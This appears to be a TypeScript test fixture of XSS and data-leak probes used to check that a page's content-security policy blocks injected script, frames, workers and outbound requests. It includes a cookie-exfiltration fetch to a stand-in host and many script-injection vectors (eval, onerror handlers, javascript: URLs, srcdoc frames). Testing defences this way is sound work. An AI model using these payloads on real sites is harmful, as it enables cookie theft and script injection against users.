/** What somebody who gets mark-up or a line of script into a page would try. Each runs in the page. */

/** No such host: whatever is asked of it would show as a request that left the site. */
export const ELSEWHERE = 'https://elsewhere.example';

const code = 'window.quaiTaken = true';
const add = (tag: string, attributes: string) =>
  `const e = document.createElement('${tag}'); Object.assign(e, ${attributes}); document.body.append(e)`;
const markup = (html: string) => `document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)})`; // prettier-ignore

/** Name → script. `quaiTaken` must stay unset, nothing may be asked of another host. */
export const probes: Record<string, string> = {
  'inline script': `const e = document.createElement('script'); e.append('${code}'); document.body.append(e); if (!window.quaiTaken) throw new Error('not run')`,
  'script by text': add('script', `{ text: '${code}' }`),
  'script of another host': add('script', `{ src: '${ELSEWHERE}/a.js' }`),
  'script of a data address': add('script', `{ src: 'data:text/javascript,${code}' }`),
  'script of a blob': add('script', `{ src: URL.createObjectURL(new Blob(['${code}'])) }`),
  'module of a data address': `return import('data:text/javascript,${code}')`,
  'module of another host': `return import('${ELSEWHERE}/a.js')`,
  eval: `(0, eval)('${code}')`,
  'function of a text': `new Function('${code}')()`,
  'timer of a text': `setTimeout('${code}', 0)`,
  'handler in mark-up': markup(`<img src="data:," onerror="${code}">`),
  'handler as an attribute': `const e = document.createElement('img'); e.setAttribute('onerror', '${code}'); e.src = 'data:,'; document.body.append(e)`,
  'javascript: link': `const e = document.createElement('a'); e.href = 'javascript:${code}'; document.body.append(e); e.click()`,
  'javascript: frame': add('iframe', `{ src: 'javascript:parent.${code}' }`),
  'frame of a text': add('iframe', `{ srcdoc: '<script>parent.${code}</script>' }`),
  'frame of another host': add('iframe', `{ src: '${ELSEWHERE}/' }`),
  'frame of a data address': add('iframe', `{ src: 'data:text/html,a' }`),
  'document.write': `document.write('<script>${code}</script>')`,
  'parsed document': `document.adoptNode(new DOMParser().parseFromString('<b>a</b>', 'text/html').body)`,
  'image of another host': add('img', `{ src: '${ELSEWHERE}/a.png' }`),
  'video of another host': add('video', `{ src: '${ELSEWHERE}/a.mp4' }`),
  'style sheet of another host': add('link', `{ rel: 'stylesheet', href: '${ELSEWHERE}/a.css' }`),
  'style element': add('style', `{ textContent: 'body { display: none }' }`),
  'style attribute': `document.body.setAttribute('style', 'display: none')`,
  'face of another host': `return new FontFace('a', 'url(${ELSEWHERE}/a.woff2)').load()`,
  fetch: `return fetch('${ELSEWHERE}/?' + document.cookie)`,
  XMLHttpRequest: `const r = new XMLHttpRequest(); r.open('GET', '${ELSEWHERE}/'); r.send()`,
  sendBeacon: `navigator.sendBeacon('${ELSEWHERE}/', 'a')`,
  WebSocket: `new WebSocket('wss://elsewhere.example/')`,
  EventSource: `new EventSource('${ELSEWHERE}/')`,
  form: `const e = document.createElement('form'); e.action = '${ELSEWHERE}/'; e.method = 'post'; document.body.append(e); e.submit()`,
  'base address': `const e = document.createElement('base'); e.href = '${ELSEWHERE}/'; document.head.append(e); if (!document.baseURI.startsWith(location.origin)) window.quaiTaken = true`,
  object: add('object', `{ data: '${ELSEWHERE}/a.swf' }`),
  embed: add('embed', `{ src: '${ELSEWHERE}/a.swf' }`),
  'worker of a blob': `new Worker(URL.createObjectURL(new Blob(['1'])))`,
  'worker of another address': `new Worker('/examples/evil.js')`,
  prefetch: add('link', `{ rel: 'prefetch', href: '${ELSEWHERE}/?a' }`),
  preload: add('link', `{ rel: 'preload', as: 'script', href: '${ELSEWHERE}/a.js' }`),
  WebAssembly: `return WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
  'policy of Trusted Types': `trustedTypes.createPolicy('evil', { createHTML: (a) => a })`,
  'worker policy again': `trustedTypes.createPolicy('quai-worker', { createScriptURL: (a) => a })`,
};
